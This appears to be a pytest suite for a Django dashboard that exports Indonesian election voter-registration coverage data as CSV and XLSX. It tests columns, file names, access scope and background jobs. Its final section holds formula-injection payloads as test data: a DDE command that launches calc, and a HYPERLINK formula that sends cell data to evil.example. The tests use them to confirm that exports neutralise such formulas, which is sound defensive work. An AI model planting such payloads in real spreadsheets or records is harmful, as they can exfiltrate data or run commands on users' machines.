import csv
import datetime
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.models import Role
from accounts.tests.factories import UserFactory
from buildings.tests.factories import BuildingFactory, TowerFactory, UnitFactory, kelurahan
from dashboard import exports
from dashboard.models import ExportJob
from visits.models import AccessIssueEvent
from visits.tests.factories import AccessIssueFactory

pytestmark = pytest.mark.django_db

JAKARTA = ZoneInfo("Asia/Jakarta")
# Day 16 of the Pilkada 2024 window (24 June – 24 July): the straight line stands at 16/31.
AS_OF = datetime.datetime(2024, 7, 9, 10, 15, tzinfo=JAKARTA)


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def frozen(monkeypatch):
    """The figures' time is 9 July 2024, 10.15 WIB."""
    monkeypatch.setattr(timezone, "now", lambda: AS_OF.astimezone(datetime.UTC))
    return AS_OF


def _url(code, kind, fmt):
    return reverse("dashboard_export", kwargs={"code": code, "kind": kind, "fmt": fmt})


def _body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv_parts(response):
    """The table (header first) and the notes below it, read as Excel in Indonesian does."""
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    raw = _body(response)
    assert raw.startswith("\ufeff".encode())  # a BOM: Excel reads the file as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8").removeprefix("\ufeff")), delimiter=";"))
    blank = rows.index([])
    return rows[:blank], rows[blank + 1 :]


def _csv(response):
    return _csv_parts(response)[0]


def _book(response):
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    return openpyxl.load_workbook(io.BytesIO(_body(response)))


def _xlsx(response):
    return [list(row) for row in _book(response).active.iter_rows(values_only=True)]


def _notes(book):
    return {label: text for label, text in book.worksheets[1].iter_rows(values_only=True)}


def test_coverage_export_lists_the_areas_the_region_page_shows(client, world):
    client.force_login(world.kpu_provinsi)
    client.cookies["django_language"] = "en"
    rows = _xlsx(client.get(_url("31", "coverage", "xlsx")))
    assert rows[0][:4] == ["Code", "Name", "Units closed", "Residential units"]
    assert [r[0] for r in rows[1:]] == ["31.72", "31.74"]
    page = client.get(reverse("dashboard_region", args=["31"]))
    on_screen = {item.code: f for item, f in page.context["children"]}
    for row in rows[1:]:
        f = on_screen[row[0]]
        assert row[2:9] == [f.closed, f.residential, round(f.percent, 1), f.voters_verified,
                            f.expected_voters or None, f.revisits, f.refused_twice]  # fmt: skip


def test_coverage_export_of_a_kelurahan_lists_its_buildings_as_csv(client, world):
    client.force_login(world.kpu_kota_selatan)
    rows = _csv(client.get(_url("31.74.08.1003", "coverage", "csv")))
    assert [r[1] for r in rows[1:]] == ["Kalibata Uji"]


def test_building_export_names_kelurahan_kecamatan_and_kota_and_stays_in_scope(client, world):
    client.force_login(world.kpu_kota_selatan)
    client.cookies["django_language"] = "en"
    rows = _csv(client.get(_url("31.74", "buildings", "csv")))
    assert rows[0][:6] == ["Building", "Kind", "Kelurahan code", "Kelurahan", "Kecamatan", "Kota"]
    assert [r[0] for r in rows[1:]] == ["Kalibata Uji"]
    kel = world.building_a.kelurahan
    assert rows[1][2:6] == [kel.code, kel.name, kel.parent.name, kel.parent.parent.name]
    assert rows[1][6:8] == ["0", "1"]  # unit A: residential, not closed


def test_access_issue_log_holds_each_issue_with_its_history(client, world):
    issue = world.side["a"]["accessissue"]
    AccessIssueEvent.objects.create(issue=issue, actor=world.kpu_kota_selatan, action="letter_sent",
                                    level="kpu_kota", note="Surat ke pengelola")  # fmt: skip
    client.force_login(world.kpu_kota_selatan)
    client.cookies["django_language"] = "en"
    rows = _xlsx(client.get(_url("31.74", "issues", "xlsx")))
    assert rows[0][0] == "Building" and rows[0][-1] == "History"
    assert [r[0] for r in rows[1:]] == ["Kalibata Uji"]
    assert "Letter sent to the manager" in rows[1][-1] and "Surat ke pengelola" in rows[1][-1]
    assert rows[1][5] == world.pantarlih_a.full_name
    # Dates are dates, in Jakarta's time.
    raised = timezone.localtime(issue.created_at).replace(tzinfo=None, microsecond=0)
    assert rows[1][6] == raised
    # The supervisor of Jakarta Utara sees only Marunda's issue.
    client.force_login(world.bawaslu_utara)
    rows = _csv(client.get(_url("31.72", "issues", "csv")))
    assert [r[0] for r in rows[1:]] == ["Marunda Uji"]


# --- XLSX made for Excel: filter, frozen header, widths, numbers, and what the file is


def test_the_xlsx_has_a_bold_frozen_header_a_filter_and_readable_widths(client, world, frozen):
    client.force_login(world.kpu_kota_selatan)
    book = _book(client.get(_url("31.74", "buildings", "xlsx")))
    sheet = book.active
    assert book.sheetnames == ["Gedung", "Keterangan"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:Q2"  # 17 columns, the header and one building
    assert all(cell.font.bold for cell in sheet[1])
    widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
    assert all(8 <= w <= 60 for w in widths)
    assert widths[0] >= len("Kalibata Uji")
    headers = [c.value for c in sheet[1]]
    assert headers[8] == "% tuntas"  # the share closed: a plain number, named as such
    assert sheet.cell(row=2, column=9).number_format == "0.0"


def test_the_xlsx_says_its_area_period_time_and_who_exported_it(client, world, frozen):
    client.force_login(world.kpu_kota_selatan)
    notes = _notes(_book(client.get(_url("31.74", "coverage", "xlsx"))))
    assert notes["Wilayah"] == "Kota Administrasi Jakarta Selatan (31.74)"
    assert notes["Periode coklit"] == "Pilkada DKI Jakarta 2024: 24 Juni 2024 – 24 Juli 2024"
    assert notes["Angka per"] == "9 Juli 2024, 10.15 WIB"
    user = world.kpu_kota_selatan
    assert notes["Diekspor oleh"] == f"{user.full_name} <{user.email}> (KPU Kota)"
    assert notes["Data"] == "Cakupan per wilayah"


def test_the_building_export_carries_the_reasons_the_gap_and_numbers_as_numbers(
    client, world, frozen
):
    client.force_login(world.kpu_kota_selatan)
    client.cookies["django_language"] = "en"
    response = client.get(_url("31.74", "buildings", "xlsx"))
    book = _book(response)
    rows = [list(r) for r in book.active.iter_rows(values_only=True)]
    header, kalibata = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[-3:] == ["Behind (percentage points)", "Units to close to be on track",
                           "Why behind"]  # fmt: skip
    # Day 16 of 31: the line stands at 51.6 %; nothing closed, 1 unit to close to be on it.
    assert kalibata["Behind (percentage points)"] == 51.6
    assert kalibata["Units to close to be on track"] == 1
    assert "access denied" in kalibata["Why behind"]  # the open access issue
    # What the region page says about the same building.
    page = client.get(reverse("dashboard_region", args=["31.74"]))
    shown = next(r for r in page.context["at_risk"] if r.building.pk == world.building_a.pk)
    assert kalibata["Why behind"] == ", ".join(shown.reasons)
    assert kalibata["Units to close to be on track"] == shown.gap_units
    for name in ("Units closed", "Residential units", "Open issues"):
        assert isinstance(kalibata[name], int), name
    assert isinstance(kalibata["% closed"], int | float)
    assert kalibata["Voters expected"] is None  # no DPS count: empty, not 0 or ""
    assert "51.6 % today" in _notes(book)["Behind (percentage points)"]


def test_the_csv_is_for_excel_in_indonesian_with_the_same_columns(client, world, frozen):
    client.force_login(world.kpu_kota_selatan)
    xlsx = _xlsx(client.get(_url("31.74", "buildings", "xlsx")))
    table, notes = _csv_parts(client.get(_url("31.74", "buildings", "csv")))
    assert table[0] == xlsx[0]  # the same columns, in Indonesian by default
    row = dict(zip(table[0], table[1], strict=True))
    assert row["Kecamatan"] == "Pancoran"
    assert row["Tertinggal (poin persen)"] == "51,6"  # a decimal comma
    assert row["% tuntas"] == "0,0"
    assert row["Jumlah pemilih (DPS)"] == ""
    assert "akses ditolak" in row["Sebab tertinggal"]
    notes = dict(notes)
    assert notes["Periode coklit"] == "Pilkada DKI Jakarta 2024: 24 Juni 2024 – 24 Juli 2024"
    assert notes["Angka per"] == "9 Juli 2024, 10.15 WIB"
    assert "51,6 %" in notes["Tertinggal (poin persen)"]


def test_the_csv_keeps_indonesian_and_other_characters(client, world):
    BuildingFactory(name="Rusun Cempaka Putih – Blok Ü", kelurahan=kelurahan())
    client.force_login(world.kpu_kota_selatan)
    table = _csv(client.get(_url("31.74.08.1003", "coverage", "csv")))
    assert "Rusun Cempaka Putih – Blok Ü" in [r[1] for r in table]


# --- file names


@pytest.mark.parametrize(
    "code,kind,fmt,name",
    [
        ("31.74", "coverage", "xlsx", "cakupan-jakarta-selatan-2024-07-09.xlsx"),
        ("31.74", "buildings", "csv", "gedung-jakarta-selatan-2024-07-09.csv"),
        ("31.74.08", "issues", "xlsx", "kendala-akses-pancoran-2024-07-09.xlsx"),
        ("31.74.08.1003", "coverage", "csv", "cakupan-rawajati-2024-07-09.csv"),
        ("31", "buildings", "xlsx", "gedung-dki-jakarta-2024-07-09.xlsx"),
    ],
)
def test_files_are_named_in_indonesian_with_the_area_and_the_date(
    client, world, frozen, code, kind, fmt, name
):
    client.force_login(world.kpu_provinsi)
    client.cookies["django_language"] = "en"  # official documents: the same name in English
    response = client.get(_url(code, kind, fmt))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'


def test_file_names_are_ascii_slugs_of_the_area():
    day = datetime.date(2024, 7, 9)
    name = exports.export_filename
    assert name(kind="coverage", area="Kabupaten Administrasi Kepulauan Seribu", fmt="xlsx",
                day=day) == "cakupan-kepulauan-seribu-2024-07-09.xlsx"  # fmt: skip
    assert name(kind="issues", area='Pal Merah";\r\nX: y', fmt="csv", day=day) == (
        "kendala-akses-pal-merah-x-y-2024-07-09.csv"
    )
    assert name(kind="buildings", area="—", fmt="csv", day=day) == "gedung-wilayah-2024-07-09.csv"


# --- scope


@pytest.mark.parametrize("kind", ["coverage", "buildings", "issues"])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_another_kotas_staff_cannot_export_this_region(client, world, kind, fmt):
    client.force_login(world.kpu_kota_utara)
    for code in ("31.74", "31.74.08", "31.74.08.1003", "31"):
        assert client.get(_url(code, kind, fmt)).status_code == 404, code
        assert client.post(_url(code, kind, fmt)).status_code == 404, code
    assert not ExportJob.objects.exists()
    assert client.get(_url("31.72", kind, fmt)).status_code == 200  # its own kota


def test_an_export_outside_the_scope_is_not_found(client, world):
    client.force_login(world.kpu_kota_selatan)
    assert client.get(_url("31", "coverage", "csv")).status_code == 404
    assert client.get(_url("31.72", "issues", "csv")).status_code == 404
    assert client.get(_url("31.74", "secrets", "csv")).status_code == 404
    assert client.get(_url("31.74", "coverage", "ods")).status_code == 404
    client.force_login(world.manager_a)
    assert client.get(_url("31.74.08.1003", "coverage", "csv")).status_code == 404


# --- direct or in the background: by rows alone


def test_a_province_building_list_of_a_few_rows_is_answered_directly(client, world, frozen):
    # Issue #15: the province-wide list always went to the background, even for 6 buildings.
    client.force_login(world.dinas)
    response = client.get(_url("31", "buildings", "xlsx"))
    assert response["Content-Disposition"] == (
        'attachment; filename="gedung-dki-jakarta-2024-07-09.xlsx"'
    )
    rows = _xlsx(response)
    assert sorted(r[0] for r in rows[1:]) == ["Kalibata Uji", "Marunda Uji"]
    assert not ExportJob.objects.exists()


def test_a_large_province_building_list_is_built_in_the_background_for_its_owner_only(
    client, world, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exports, "DIRECT_ROWS_MAX", 1)
    client.force_login(world.dinas)
    client.cookies["django_language"] = "en"
    offer = client.get(_url("31", "buildings", "xlsx"))
    assert offer.status_code == 200 and "Content-Disposition" not in offer
    assert not ExportJob.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(_url("31", "buildings", "xlsx"))
    assert response.status_code == 302 and response["Location"] == reverse("dashboard_exports")
    job = ExportJob.objects.get()
    assert (job.owner, job.status, job.rows) == (world.dinas, ExportJob.Status.DONE, 2)
    assert job.file.name.startswith("exports/")
    today = timezone.localdate()
    assert job.filename == f"gedung-dki-jakarta-{today:%Y-%m-%d}.xlsx"
    listing = client.get(reverse("dashboard_exports"))
    download = reverse("dashboard_export_download", args=[job.pk])
    assert download in listing.content.decode()
    response = client.get(download)
    assert job.filename in response["Content-Disposition"]
    book = _book(response)
    rows = [list(r) for r in book.active.iter_rows(values_only=True)]
    assert sorted(r[0] for r in rows[1:]) == ["Kalibata Uji", "Marunda Uji"]
    # Built in Indonesian, the owner's language, with the same notes as a direct export.
    assert rows[0][0] == "Gedung" and book.sheetnames[1] == "Keterangan"
    assert _notes(book)["Wilayah"] == "DKI Jakarta"
    client.force_login(world.kpu_provinsi)
    assert client.get(download).status_code == 404
    assert download not in client.get(reverse("dashboard_exports")).content.decode()


def test_a_background_export_speaks_its_owners_language(
    client, world, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exports, "DIRECT_ROWS_MAX", 0)
    from accounts.models import User

    User.objects.filter(pk=world.kpu_kota_selatan.pk).update(language="en")
    client.force_login(world.kpu_kota_selatan)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(_url("31.74", "issues", "csv"))
    job = ExportJob.objects.get()
    text = job.file.open("rb").read().decode("utf-8-sig")
    assert text.startswith("Building;Kelurahan;Kind;")
    assert job.filename.startswith("kendala-akses-jakarta-selatan-")


def test_a_large_export_goes_to_the_background_and_a_failure_is_shown(
    client, world, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exports, "DIRECT_ROWS_MAX", 0)
    client.force_login(world.kpu_kota_selatan)
    assert "Content-Disposition" not in client.get(_url("31.74", "issues", "csv"))

    def broken(**kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr("dashboard.export_tasks.export_build", broken)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(_url("31.74", "issues", "csv"))
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.FAILED
    assert client.get(reverse("dashboard_export_download", args=[job.pk])).status_code == 404


def _queries(client, url):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


@pytest.mark.parametrize("kind", ["coverage", "buildings", "issues"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_run_a_fixed_number_of_queries(client, world, kind, fmt):
    client.force_login(world.kpu_kota_selatan)
    url = _url("31.74", kind, fmt)
    before = _queries(client, url)
    for _n in range(3):
        building = BuildingFactory(kelurahan=kelurahan("31.74.08.1003"))
        UnitFactory(tower=TowerFactory(building=building))
        issue = AccessIssueFactory(building=building, raised_by=world.pantarlih_a)
        AccessIssueEvent.objects.create(issue=issue, actor=world.pps_marunda, action="comment",
                                        level="pps")  # fmt: skip
    # The reasons column reads the period and three at-risk facts once, not per building.
    assert _queries(client, url) == before


# --- the region page's links


def test_the_region_page_offers_xlsx_first_and_csv_for_excel_in_indonesian(client, world):
    client.force_login(world.kpu_kota_selatan)
    page = client.get(reverse("dashboard_region", args=["31.74"])).content.decode()
    start = page.index('class="exports-links"')
    nav = page[start : page.index("</nav>", start)]
    assert "Unduh untuk Excel" in nav
    for kind, label in (("coverage", "tabel ini"), ("buildings", "semua gedung"),
                        ("issues", "kendala akses")):  # fmt: skip
        xlsx = f'<a class="xlsx" href="{_url("31.74", kind, "xlsx")}">{label}</a>'
        csv_link = f'<a class="csv" href="{_url("31.74", kind, "csv")}"'
        assert xlsx in nav
        assert nav.index(xlsx) < nav.index(csv_link)
    assert "CSV untuk Excel berbahasa Indonesia" in nav


# --- no formulas


FORMULA_NAME = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'


@pytest.fixture
def hostile_names(world):
    from accounts.models import User

    building = BuildingFactory(name=FORMULA_NAME, kelurahan=kelurahan(), manager_org="@SUM(1+1)")
    UnitFactory(tower=TowerFactory(building=building, name="+A"), number="1")
    User.objects.filter(pk=world.pantarlih_a.pk).update(full_name=HYPERLINK)
    User.objects.filter(pk=world.kpu_provinsi.pk).update(full_name="=1+2")
    AccessIssueFactory(building=building, raised_by=world.pantarlih_a, description="-2+3")
    return building


def _texts_start_safely(cells, where):
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")], where
    return texts


@pytest.mark.parametrize("kind", ["coverage", "buildings", "issues"])
def test_no_export_cell_reaches_excel_as_a_formula(client, world, hostile_names, kind):
    # Issue #13: these names became live formulas in every XLSX and raw "=" cells in every CSV.
    client.force_login(world.kpu_provinsi)
    table, notes = _csv_parts(client.get(_url("31.74", kind, "csv")))
    texts = _texts_start_safely([c for row in table + notes for c in row], (kind, "csv"))
    if kind == "buildings":
        assert f"'{FORMULA_NAME}" in texts
    book = _book(client.get(_url("31.74", kind, "xlsx")))
    for sheet in book.worksheets:  # the table and the notes (the exporter's name is there)
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        cells = [c for row in sheet.iter_rows(values_only=True) for c in row]
        texts = _texts_start_safely(cells, (kind, "xlsx", sheet.title))
    assert any(t.startswith("'=1+2") for t in texts)  # the exporter, on "Keterangan"


def test_numbers_stay_numbers_in_a_neutralised_xlsx(client, world, hostile_names):
    client.force_login(world.kpu_provinsi)
    sheet = openpyxl.load_workbook(
        io.BytesIO(_body(client.get(_url("31.74", "coverage", "xlsx"))))
    ).active
    numbers = [c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "n"]
    assert numbers and all(isinstance(c.value, int | float) for c in numbers if c.value is not None)


def test_the_admin_export_neutralises_formulas_too(client, world, hostile_names):
    client.force_login(
        UserFactory(email="super@uji.coklit.id", role=Role.KPU_PROVINSI, is_staff=True,
                    is_superuser=True)
    )  # fmt: skip
    url = reverse("admin:buildings_building_export")
    form = client.get(url).context["form"]
    data = {name: True for name, field in form.fields.items() if field.initial is True}

    text = client.post(url, {**data, "format": "0"}).content.decode()

    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA_NAME}" in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
